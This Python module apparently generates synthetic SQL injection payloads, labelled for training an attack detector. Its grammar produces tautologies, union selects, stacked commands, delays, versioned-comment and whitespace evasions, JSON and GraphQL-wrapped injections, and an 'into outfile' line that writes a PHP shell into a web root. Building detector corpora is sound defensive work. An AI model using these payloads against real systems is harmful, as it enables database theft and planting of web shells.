"""Short SQL fragments: operators for keywords, odd ends of statements, versioned comments, JSON."""

from __future__ import annotations

from json import dumps
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.sqli_base import SQL
from securitai.train.corpora.attacks.style import keyword_case, sometimes_percent, sql_blanks
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, VALUE, AttackKind, Maker
from securitai.verdict import Category

_COMMENTS = ("/**/", "/**/", "/*!*/", "/* */", "/*x*/", "/*/**/", "--%0a", "%0a", "\t", "+", "\n")


def comment_blanks(rng: Random, text: str) -> str:
    """Comments and odd white space where the blanks were."""
    roll, filler = rng.random(), _COMMENTS[int(rng.random() * len(_COMMENTS))]
    if roll < 0.7:
        return text.replace(" ", filler)
    parts = text.split(" ")
    return "".join(
        [parts[0]] + [_COMMENTS[int(rng.random() * len(_COMMENTS))] + part for part in parts[1:]]
    )


_G = Grammar(
    r"""
q1 = 5×'¦2×"¦')¦'))¦")¦%'¦\'¦`¦'''
qo:
  5×'
  2×"
sym = =¦<¦>¦<>¦!=¦<=>¦||¦&&¦|¦&¦^¦-¦+¦*¦/¦%¦<<¦>>¦>=¦<=¦~¦=!¦=-¦-!¦|!¦^!¦*-¦+-¦=~¦=+¦-~¦*!¦&!¦->¦->>¦**¦!~¦~*¦@>¦<@¦:=¦==
wsym = or¦and¦like¦rlike¦regexp¦xor¦div¦is¦between¦sounds like¦not like¦mod¦ilike¦similar to¦glob¦is not¦or not¦and not¦match¦collate¦in¦escape¦not regexp¦not rlike¦is distinct from
wbare = or¦and¦like¦rlike¦regexp¦xor¦div¦mod¦sounds like¦not like¦ilike¦similar to¦or not¦and not¦not regexp¦not rlike¦glob¦is not
un1 = -¦+¦!¦~¦!!¦-+¦~~¦not ¦- ¦! ¦- + ¦binary ¦@¦@@¦ ¦ ¦¦¦¦
nil = \N¦null¦\N ¦true¦false¦0¦1¦''¦""¦!1¦!0¦~0¦@a¦@`a`¦pi()¦rand()¦now()¦user()¦version()¦0x0¦.0¦1e0¦(1)¦(select 1)¦current_date¦current_user¦@@version¦unknown¦current_time¦localtime¦x''¦b'0'¦{d'2020-01-01'}
hard = \N¦null¦@a¦@`a`¦pi()¦rand()¦now()¦user()¦version()¦(select 1)¦current_date¦current_user¦@@version¦current_time¦localtime¦~0¦!0¦0x0¦{d'2020-01-01'}¦true¦false
colm = id¦username¦password¦name¦pass¦user¦email¦uid¦login¦pwd¦column_0¦a¦user_id¦is_admin¦rowid¦1¦userid¦title
tail = 5×‹cm›¦‹sp›‹wsym› '¦‹sp›‹wsym› '‹c›¦‹sym›'¦‹sym›'‹d1›¦‹sp›‹sym› '
bare:
  3×'‹sym›'
  2×‹q=qo›‹sym›‹un1›‹nil›‹sym›‹$q›
  2×'‹sym›‹un1›'
  2×' ‹wbare› ‹un1›'
  2×' ‹wbare› '‹?d1›
  2×‹q=qo›‹wbare›-‹$q›‹c›
  2×‹q=qo›‹wbare›‹$q›‹c›
  2×‹q=qo›‹wbare›‹sym›‹$q›‹d1›
  2×‹q=qo›‹wsym›‹un1›‹nil›‹sym›‹$q›
  3×‹q=qo› ‹wsym› ‹nil› ‹sym› ‹$q›
  3×‹q=qo›‹sym› ‹nil› ‹wsym› ‹nil› ‹sym› ‹$q›
  2×‹pre›‹q=qo›‹sym›‹colm›‹sym›‹$q›‹d1›
  2×‹pre›‹q=qo›‹sym›-‹colm›-‹d1›‹sym›‹$q›‹d1›
  2×‹pre›‹q=qo›‹sym›‹$q›‹d1›
  2×‹pre›‹q=qo›‹sym›‹$q›‹az›‹$q›‹sym›‹$q›
  2×‹n›‹q=qo›‹sym›‹un1›‹n›‹sym›‹$q›‹n›
  2×‹n›‹q=qo›‹wsym›‹sym›‹$q›‹n›
  ‹pre›‹q=qo›‹sym›(‹nil›)‹sym›‹$q›
  ‹q=qo›‹sym›‹x=nil›‹sym›‹$x›‹sym›‹$q›
  ‹qo›‹wsym›‹un1›‹d1›‹cm›
  ‹q=qo› ‹wsym› ‹$q›‹$q›‹sym›‹$q›
  ‹q=qo› ‹wsym› ‹$q›‹c›‹$q›‹sym›‹$q›‹c›
  ‹q=qo› ‹wsym› ‹$q›‹$q› ‹wsym› ‹$q›
  ‹q=qo›‹wsym›(‹hard›)‹wsym›‹$q›
  ‹q=qo›) ‹wbare› (‹$q›
  ‹q=qo›))‹wbare›((‹$q›
  ‹q=qo›))) ‹wbare› (((‹$q›‹d1›
  ‹q=qo›)‹sym›(‹$q›
  ‹q=qo› -- ‹$q›‹sym›‹$q›
  ‹user›‹q=qo› ‹sym› ‹$q›
  ‹user›‹q=qo›‹sym›‹un1›‹nil›‹cm›
jn = ‹sp›or‹sp›¦‹sp›and‹sp›¦||¦ || ¦&&¦ && ¦ xor ¦'or'¦ or not ¦ and not ¦ or!¦ having ¦ where ¦ or binary ¦ or~¦ or-¦ or+¦|¦^¦ div ¦ mod ¦<=>¦ or @a:=
truth:
  true
  not false
  not 0
  !0
  !false
  ~0
  ‹d1›<‹#10-99›
  ‹hard›
  ‹nil› is not null
  ‹nil› is null
  not ‹hard›
  ‹colm› > ‹d1›
  ‹colm›>0
  ‹colm› is not null
  ‹colm› like '%
  ‹colm› like '‹c›%
  ‹colm› like '%‹c›%' or '‹c›'='
  ‹colm› like ‹0x25¦"%"¦char(37)›
  ‹colm› = ‹colm›
  ‹colm›!=‹colm›
  ‹colm› rlike '.
  ‹colm› regexp '^‹c›
  ‹colm› glob '*
  ‹colm› ilike '%
  ‹colm› between 'a' and 'z
  ‹colm› > 'a
  ‹colm› in (‹#1-3›,‹#4-9›)
  ‹#2-9›>‹d1›
  length(‹colm›)>‹d1›
  isnull(1/0)
  isnull(‹nil›)
  ifnull(‹nil›,1)
  coalesce(‹nil›,1)
  ascii('‹c›')=‹#97-122›
  ascii(substr(‹fn›,‹d1›,1))>‹#32-120›
  ascii(substr((‹scalar›),‹d1›,1))‹=¦<¦>›‹#32-126›
  ord(mid(‹fn›,‹d1›,1))‹&¦>¦=›‹#1-126›
  unicode(substr(‹colm›,‹d1›,1))=‹#32-126›
  strcmp('‹c›','‹c›')
  hex('‹c›')='‹#61-79›
  left(‹fn›,1)='‹c›
  right(‹colm›,1)>'‹c›
  instr(‹colm›,'‹c›')
  position('‹c›' in ‹fn›)>0
  substr(‹colm›,1,1) in ('‹c›')
  sqlite_version() like '3%
  rownum=1
  rownum<‹#2-9›
  @@version>‹d1›
  current_user='‹user›
  now()>current_date
  ‹x=c›=‹$x›
  `‹colm›`
  [‹colm›]=[‹colm›]
  "‹colm›"="‹colm›"
  ‹n›=‹n›.0
  0x‹#31-39›='‹d1›
  ‹d1› in (‹d1›)
  any_value(1)
  sign(1)
  (‹d1›,‹d1›)=(‹d1›,‹d1›)
  ‹d1›::int=‹d1›
  exists(table ‹table›)
  (values row(1))
weak = 1¦‹colm›¦‹nil›¦‹d1›
begin = 6×‹pre›‹q1›¦2×‹n›)¦-‹n›¦‹n›
words:
  4×‹pre›‹q1›‹jn›‹truth›‹?cm›
  3×‹begin›‹jn›‹truth›‹cm2›
  3×‹pre›‹q1›‹jn›‹truth›‹tail›
  2×‹pre›‹q1›‹jn›‹weak›‹cm2›
  ‹pre›‹q1›‹ or¦ and¦||¦&&¦ xor›(‹truth›)‹?cm›
  ‹pre›‹q1›‹ or ¦ and ¦ or not ›exists(‹scalar›)‹cm2›
  2×‹q1›‹jn›‹truth›
  2×or ‹truth›‹cm2›
  and ‹truth›‹cm2›
  2×‹q=qo›‹sym›‹truth›‹sym›‹$q›
cm2 = 3×--‹sp›¦3×--¦-- -¦2×#¦ --¦ #¦-- ‹az4›¦--+¦/*¦;%00¦;--
odd_end:
  procedure analyse()
  procedure analyse(‹#0-9›,‹#0-9›)
  order by ifnull(null,‹colm›)
  order by ‹nil›
  order by (case when ‹truth› then ‹d1› else ‹colm› end)
  order by if(‹truth›,‹colm›,1)
  order by ‹colm› collate nocase
  order by ‹rand()¦newid()¦random()¦dbms_random.value›
  group by ‹d1› with rollup
  group by ‹colm› with rollup having ‹colm› is null
  group by ‹colm›,‹colm› having ‹d1›=‹d1›
  having ‹truth›
  having ‹d1›=‹d1›
  having count(*)>‹d1›
  limit ‹d1› into @‹c›
  limit 0 union select ‹nil›
  into outfile '/tmp/‹rnd›'
  into dumpfile '‹rnd›
  into @‹c›,@‹c›
  into outfile '/var/www/‹rnd›.php' fields terminated by '<?='
  lock in share mode
  for xml ‹path¦auto¦raw›
  for json ‹path¦auto›
  window w as ()
  with (nolock)
  cross join ‹table›
  union ‹all ¦distinct ¦›table ‹table›
  union values(‹nil›,‹nil›)
  union ‹all ¦›(select ‹nil›)
  union(select(‹nil›))
  intersect select ‹nil›
  except select ‹nil›
  minus select ‹nil› from dual
  collate utf8_bin
  partition (p‹#0-9›)
  start with 1=1 connect by 1=1
  ;declare @‹x=az› ‹int¦varchar(99)¦cursor›;set @‹$x›=‹nil›
  ;declare ‹x=c› cursor for ‹scalar›;open ‹$x›
  ;declare @‹x=c› cursor;set @‹$x›=cursor for select 1
  ;exec(‹0x41¦'s'¦@a›)
  ;exec ‹sp_who¦sp_help¦xp_msver¦sp_databases¦xp_loginconfig¦sp_tables¦sp_lock›
  ;exec('sel'+'ect ‹d1›')
  ;call ‹az›()
  ;begin ‹commit¦rollback¦null¦end›
  ;fetch next from ‹c›
  ;do sleep(‹d1›)
  ;do ‹nil›
  ;set @‹c›=‹nil›
  ;show ‹tables¦databases¦grants¦variables¦processlist¦master status›
  ;desc‹ribe¦› ‹table›
  ;explain select 1
  ;table ‹table›
  ;values(‹hard›)
  ;print ‹hard›
  ;use ‹master¦mysql¦msdb›
  ;vacuum
  ;pragma table_list
  ;pragma database_list
  ;discard all
  ;listen ‹az›
  ;raiserror('‹az›',16,1)
  ;flush ‹logs¦tables¦privileges›
  ;reset master
  ;dbcc ‹checkdb¦help›
  ;waitfor delay '0:0:‹d1›
  ;select ‹nil›
quiet_end:
  order by ‹#1-40› ‹asc¦desc›
  order by ‹colm› limit ‹d1›,‹d1›
  group by ‹#1-20›
  limit ‹d1›,‹d1›
  limit ‹d1› offset ‹#0-9›
  for update
  offset ‹d1› rows fetch next ‹d1› rows only
  fetch first ‹d1› rows only
  returning ‹colm›
  natural join ‹table›
  is null
  is not null
  having ‹d1›
  as ‹c›,‹table› as ‹c›
odd = 8×‹begin› ‹odd_end›‹?cm›¦2×‹begin›‹odd_end› ‹cm2›¦3×‹pre›‹q1› ‹quiet_end›‹cm2›¦‹n›) ‹quiet_end›‹cm2›¦‹begin› or ‹truth› ‹odd_end›‹?cm›
ver = !¦!50000¦!40000¦!30000¦!00000¦!12345¦!80000¦M!¦M!50000¦!50001
kw = or¦and¦union¦select¦having¦order by¦xor¦where¦like
versioned:
  4×‹begin›/*‹ver›‹sp›‹jn›*/ ‹truth›‹?cm›
  3×‹begin› /*‹ver›‹jn›‹truth›*/‹?cm›
  2×‹begin›/*‹ver›union*/ /*‹ver›select*/ ‹nil›,‹fn›‹cm›
  2×‹begin›/*‹ver› ‹odd_end› */‹?cm›
  ‹n› /*‹ver›‹kw› ‹nil›*/
  ‹begin›/*‹ver›‹kw›/**/‹truth›*/
  /*‹ver›‹fn›*/
  ‹n›/*‹ver› /0*/
  ‹n› -- ‹az›‹nl›‹jn›‹truth›
  ‹n›/*‹az›*/‹jn›/*‹az›*/‹truth›
json1 = '{"‹c›":‹d1›}'¦'[‹d1›]'¦'"‹c›"'¦'{}'¦'[]'¦'{"‹c›":{"‹c›":"‹az›"}}'
jsons:
  ‹json1›‹::jsonb¦::json¦› ‹@>¦<@¦?¦->¦->>¦?|¦?&¦#>¦#>>¦@@¦@?› ‹json1›
  data->>'‹c›'='‹c›
  ‹colm›->'$.‹c›' is ‹null¦not null›
  json_valid(‹json1›)
  json_length(‹json1›)‹>¦<¦=¦<=›‹d1›
  json_depth(‹json1›)=‹d1›
  json_extract(‹json1›,'$.‹c›')‹=¦<=>¦ is not ›‹nil›
  json_value(‹json1›,'$.‹c›')='‹d1›
  json_contains(‹json1›,'‹d1›')
  json_array_length(‹json1›)<‹d1›
  json_type(‹json1›)='object
  json_exists(‹json1›,'$.‹c›')
  isjson(‹json1›)=1
  ‹d1› member of(‹json1›)
  jsonb_typeof(‹json1›)='object
  json_keys(‹json1›) is not null
  xpath('//‹c›','<‹c›/>') is not null
  array[‹d1›]‹@>¦&&¦=›array[‹d1›]
  '‹c›'=any('{‹c›}')
  '‹d1›' ~ '^‹d1›
  '‹c›' ~~ '%
  (‹json1›::json)->>'‹c›' is null
json:
  6×‹begin›‹jn›‹jsons›‹?cm›
  ‹pre›' ‹||¦->>¦->¦#>>¦@>¦?› ‹json1›‹cm›
  ‹pre›'::text ‹wsym› ‹truth›‹cm›
  ‹pre›'}' or ‹truth›‹cm›
hit:
  3×‹pre›' ‹or¦and¦||¦&&¦xor› ‹truth›‹cm›
  2×' ‹or¦and¦||› '‹x=c›'='‹$x›
  ‹pre›'‹sym›'‹cm›
  ‹pre›' union select ‹nil›,‹fn›‹cm›
  ‹pre›'‹odd_end›‹cm›
  ‹pre›') or ‹truth›‹cm›
  ‹pre›'; ‹scalar›‹cm›
  ‹pre›' or (‹scalar›) is not null‹cm›
""",
    SQL,
)


def _quoted(times: int) -> Maker:
    """A break-out as it stands inside of a JSON or GraphQL string."""
    make = _G.maker("hit")

    def one(rng: Random) -> str:
        text = make(rng)
        for _ in range(times):
            text = dumps(text)[1:-1]
        return text

    return one


_GRAPH = Grammar(
    r"""
field = user¦users¦login¦product¦search¦order¦node¦getUser¦posts¦item¦account¦book¦allUsers¦customer¦systemInfo¦paste¦post
fields = id¦id name¦id email¦token¦name price¦__typename¦id title¦username password¦edges{node{id}}¦total¦role
argm = id¦name¦username¦email¦filter¦search¦q¦orderBy¦where¦title¦slug¦password¦keyword¦sort
graph:
  4×{‹field›(‹argm›:"‹hit›"){‹fields›}}
  2×‹query¦mutation¦query Q› { ‹field›(‹argm›: "‹hit›") { ‹fields› } }
  2×query { ‹field›(‹argm›: ‹n›, ‹argm›: "‹hit›") { ‹fields› } }
  mutation{‹field›(input:{‹argm›:"‹hit›",‹argm›:"‹az›"}){‹fields›}}
  {‹field›(first:‹d1›,‹argm›:{‹argm›:"‹hit›"}){‹fields›}}
  2×{"query":"{‹field›(‹argm›:\"‹hit2›\"){‹fields›}}"}
  2×{"query":"query($‹x=argm›:String!){‹field›(‹argm›:$‹$x›){‹fields›}}","variables":{"‹$x›":"‹hit›"}}
  2×{"‹argm›":"‹hit›"}
  {"‹argm›":"‹hit›","‹argm›":"‹az›"}
  {"‹argm›":{"‹argm›":"‹hit›"},"‹argm›":‹n›}
  ["‹hit›"]
  [‹n›,"‹hit›"]
  {"where":{"‹argm›":{"‹eq¦like¦in¦contains›":"‹hit›"}},"limit":‹n›}
""",
    PARTS,
    {"hit": _quoted(1), "hit2": _quoted(2)},
)
_LIGHT = (keyword_case, sql_blanks, sometimes_percent)
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("sqli_short.operators", Category.SQLI, _G.maker("bare", *_LIGHT), 0.8, _SOME),
    AttackKind("sqli_short.words", Category.SQLI, _G.maker("words", *_LIGHT), 1.0, (*_SOME, NAME)),
    AttackKind("sqli_short.ends", Category.SQLI, _G.maker("odd", *_LIGHT), 0.8, _SOME),
    AttackKind("sqli_short.versioned", Category.SQLI, _G.maker("versioned", *_LIGHT), 0.5, _SOME),
    AttackKind(
        "sqli_short.blanks",
        Category.SQLI,
        _G.maker("words", keyword_case, comment_blanks),
        0.5,
        _SOME,
    ),
    AttackKind("sqli_short.json", Category.SQLI, _G.maker("json", *_LIGHT), 0.4, (VALUE, COOKIE)),
    AttackKind("sqli_short.graph", Category.SQLI, _GRAPH.maker("graph"), 0.6, (VALUE,)),
)
